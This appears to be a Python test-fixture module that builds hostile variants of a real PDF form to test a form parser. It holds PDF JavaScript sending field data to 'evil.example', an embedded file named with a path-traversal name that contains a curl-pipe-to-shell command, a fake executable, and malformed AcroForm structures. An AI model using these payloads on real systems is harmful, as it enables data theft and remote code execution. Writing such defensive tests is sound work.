"""Hostile PDF forms made from a genuine returned form: JavaScript run on opening, embedded
files, field values and names no form of ours holds, AcroForms that point at themselves,
cut-off files."""
from __future__ import annotations

import io

from pypdf import PdfReader, PdfWriter
from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject,
                           TextStringObject)


def _writer(data: bytes) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(data)))


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def with_javascript(data: bytes) -> bytes:
    """/OpenAction running JavaScript, and a /JS name tree entry, as malicious forms carry."""
    writer = _writer(data)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.launchURL('http://evil.example/'+this.getField('x').value);")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("this.submitForm('http://evil.example/steal');")})
    names = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("steal"),
                                                                 writer._add_object(script)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(names)})
    return _bytes(writer)


def with_embedded_file(data: bytes) -> bytes:
    writer = _writer(data)
    writer.add_attachment("../../../.bashrc", b"curl http://evil.example | sh\n")
    writer.add_attachment("invoice.exe", b"MZ" + b"\x00" * 512)
    return _bytes(writer)


def with_field_values(data: bytes, value: str) -> bytes:
    """Every field of the form (the token too) set to ``value``, straight in the dictionaries."""
    writer = _writer(data)
    for reference in writer._root_object["/AcroForm"]["/Fields"]:
        field = reference.get_object()
        field[NameObject("/V")] = (NameObject("/" + value.replace("/", "")[:100]) if field.get("/FT") == "/Btn"
                                   else TextStringObject(value))
    return _bytes(writer)


def with_one_field_value(data: bytes, index: int, value: str) -> bytes:
    writer = _writer(data)
    fields = writer._root_object["/AcroForm"]["/Fields"]
    field = fields[index % len(fields)].get_object()
    field[NameObject("/V")] = TextStringObject(value)
    return _bytes(writer)


def with_field_names(data: bytes, name: str) -> bytes:
    writer = _writer(data)
    fields = writer._root_object["/AcroForm"]["/Fields"]
    fields[-1].get_object()[NameObject("/T")] = TextStringObject(name)
    return _bytes(writer)


def with_hostile_acroform(data: bytes, how: str) -> bytes:
    """An AcroForm whose /Fields is not an array, holds non-dictionaries, refers to itself, or
    holds 100,000 fields; or a field whose value is a huge stream."""
    writer = _writer(data)
    acro = writer._root_object["/AcroForm"]
    if how == "not_array":
        acro[NameObject("/Fields")] = NumberObject(7)
    elif how == "numbers":
        acro[NameObject("/Fields")] = ArrayObject([NumberObject(1), TextStringObject("x"), NameObject("/Off")])
    elif how == "self":
        acro[NameObject("/Fields")] = ArrayObject([writer._root_object.indirect_reference, acro.indirect_reference
                                                   if acro.indirect_reference else NumberObject(0)])
    elif how == "many":
        many = ArrayObject()
        for number in range(100_000):
            many.append(DictionaryObject({NameObject("/T"): TextStringObject(f"f{number}"),
                                          NameObject("/V"): TextStringObject("x")}))
        acro[NameObject("/Fields")] = many
    elif how == "stream_value":
        stream = DecodedStreamObject()
        stream.set_data(b"A" * 2_000_000)
        field = acro["/Fields"][0].get_object()
        field[NameObject("/V")] = writer._add_object(stream)
    elif how == "no_root_form":
        del writer._root_object["/AcroForm"]
    return _bytes(writer)


# "many" is slow to build (seconds): a hand-made case (test_hostile_cases), not a fuzz family.
HOSTILE_ACROFORMS = ("not_array", "numbers", "self", "stream_value", "no_root_form")
